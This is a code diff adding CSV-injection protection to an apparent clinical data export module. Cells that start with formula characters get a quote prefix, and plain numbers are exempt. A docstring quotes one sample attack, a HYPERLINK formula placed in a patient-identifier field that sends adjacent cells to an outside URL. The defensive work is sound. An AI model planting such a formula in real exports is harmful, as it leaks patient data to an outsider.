@@ -9,6 +9,11 @@ file is the complete record; `corrected` = 1 marks a value that no longer counts
 later row whose `corrects` names it, or taken back (`entered_in_error` = 1, no row replaces it;
 a clinician's audit found `corrected` = 1 on a taken-back value and no row naming it). `events.csv` has one row per `events` row and per `alarm_events` row, in time
 order (events before alarm steps at the same time, each in commit order).
+
+A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (a patient identifier,
+a name, a note: the chair accepts them) is written with a `'` before it, so a spreadsheet shows
+it as text rather than running it as a formula (OWASP "CSV injection"); a plain number, a
+negative one included (RASS -3), is written as it is.
 """
 
 from __future__ import annotations
@@ -16,6 +21,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from collections.abc import Iterable, Sequence
 from datetime import datetime
 from pathlib import Path
@@ -99,11 +105,29 @@ def _json(detail: Any) -> str:
     return json.dumps(detail, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
 
 
+# What a spreadsheet (Excel, LibreOffice) runs as a formula when a cell starts with it.
+_FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def safe_cell(text: str) -> str:
+    """`text` as a spreadsheet shows it and never runs it: a cell starting with a formula's
+    first character gets a `'` before it, unless it is a plain number ("-3", "-0.5").
+
+    The chair accepts any visible patient identifier and nurse name, and every row starts with
+    the patient's: `=HYPERLINK("http://…?"&D2,"MRN-4711")` made each row of an export a link
+    sending its neighbouring cells away (an exports review, 3 Dec 2026).
+    """
+    if text.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
 def _csv_bytes(header: Sequence[str], rows: Iterable[Sequence[str]]) -> bytes:
     text = io.StringIO(newline="")
     writer = csv.writer(text, dialect="excel", lineterminator="\r\n")
     writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
     return text.getvalue().encode("utf-8")
 
 
